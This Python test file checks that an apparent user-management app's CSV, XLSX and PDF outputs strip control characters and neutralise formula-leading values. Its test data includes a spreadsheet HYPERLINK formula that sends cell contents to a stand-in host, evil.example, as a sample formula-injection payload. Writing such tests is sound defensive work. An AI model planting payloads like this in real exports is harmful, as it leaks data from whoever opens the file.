"""Every file we write is safe to open whatever the stored text holds (names stored
before the API refused control characters, titles from other systems): the users
export as CSV and XLSX, an import's results.csv and a certificate PDF, each with values
starting with ``= + - @ \\t \\r``, alone and behind each control character."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from prodigy_users.membership.imports.rules import results_lines
from prodigy_users.reporting.record.certificates import CertificateData, render
from prodigy_users.reporting.rules import GroupNames
from prodigy_users.reporting.users.export import (
    EXPORT_COLUMNS,
    XlsxSheet,
    csv_chunk,
    csv_start,
    csv_time,
)
from prodigy_users.runtime.text import FORMULA_STARTS

CONTROLS = [*(chr(c) for c in range(0x20)), "\x7f", *(chr(c) for c in range(0x80, 0xA0))]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&B2,"Click")'
HOSTILE = [start + PAYLOAD for start in FORMULA_STARTS] + [
    control + start + PAYLOAD for start in FORMULA_STARTS for control in CONTROLS
]
NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)


def check_cell(cell: str) -> None:
    """What a spreadsheet must be able to open without running anything."""
    assert not any(c in cell for c in CONTROLS), repr(cell)
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS), repr(cell)


def users(values: list[str]) -> tuple[list[tuple[object, ...]], GroupNames]:
    """Export rows whose every text column holds a hostile value (groups named too)."""
    group_ids = [uuid.uuid4() for _ in values]
    groups = GroupNames(dict(zip(group_ids, values, strict=True)))
    rows = []
    for value, group in zip(values, group_ids, strict=True):
        record = {
            "name": value,
            "email": value,
            "role": value,
            "status": value,
            "groups": [group],
            "employee_id": value,
            "joined_at": NOW,
            "updated_at": NOW,
        }
        rows.append(tuple(record[c] for c in EXPORT_COLUMNS))
    return rows, groups


def test_the_users_csv_neutralises_after_taking_control_characters_out() -> None:
    rows, groups = users(HOSTILE)
    text_rows = [(*r[:6], csv_time(NOW), csv_time(NOW)) for r in rows]
    body = (csv_start(bom=True) + csv_chunk(text_rows, groups)).decode("utf-8-sig")
    _, *lines = list(csv.reader(io.StringIO(body, newline="")))
    assert len(lines) == len(HOSTILE)
    for line in lines:
        for cell in line[:6]:
            check_cell(cell)
        assert line[0].endswith(PAYLOAD)


def test_the_users_xlsx_has_string_cells_only_never_a_formula() -> None:
    rows, groups = users([*HOSTILE, "#N/A", "TRUE", "1e3"])
    sheet = XlsxSheet()
    sheet.append(rows, groups)
    out = io.BytesIO()
    sheet.save(out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    assert book.active is not None
    _, *cells = list(book.active.iter_rows())
    assert len(cells) == len(HOSTILE) + 3
    for row in cells:
        for cell in row[:6]:
            assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f" or "e"
            check_cell(str(cell.value))
        assert isinstance(row[6].value, datetime)
    assert [r[0].value for r in cells[-3:]] == ["#N/A", "TRUE", "1e3"], "text stays text"


def test_results_csv_takes_control_characters_out_then_neutralises() -> None:
    rows = [
        (i + 2, [value, f"p{i}@example.org", value], "invalid", "name contains a control")
        for i, value in enumerate(HOSTILE)
    ]
    body = "".join(results_lines([HOSTILE[0], "Email", "\x01@Groups"], rows))
    header, *lines = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
    for cell in header:
        check_cell(cell)
    assert len(lines) == len(HOSTILE)
    for line in lines:
        for cell in line:
            check_cell(cell)
        assert line[1].endswith(PAYLOAD)


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_certificates_show_the_name_without_control_characters(start: str) -> None:
    names = [
        start + "Ana Lima",
        *(c + start + "Ana Lima" for c in ("\x00", "\x01", "\x1b", "\x85")),
    ]
    pdf = render(
        [
            CertificateData(
                certificate_id=f"cert-{i}\x07",
                department="\x01=Springfield EMS",
                person=name,
                course="\x0b-CPR\x00 and AED",
                completed_on=date(2026, 11, 20),
                hours=Decimal("4.5"),
                credits=Decimal(0),
            )
            for i, name in enumerate(names)
        ]
    )
    reader = PdfReader(io.BytesIO(pdf))
    for page, name in zip(reader.pages, names, strict=True):
        text = page.extract_text()
        assert not any(c in text for c in CONTROLS if c != "\n"), repr(text)
        shown = name.lstrip("".join(CONTROLS)).strip()
        assert shown.lstrip(start).strip() in text
        assert "=Springfield EMS" in text and "-CPR and AED" in text
    meta = reader.metadata
    assert meta is not None
    for value in (meta.title, meta.author, meta.subject):
        assert value is not None and not any(c in value for c in CONTROLS), repr(value)
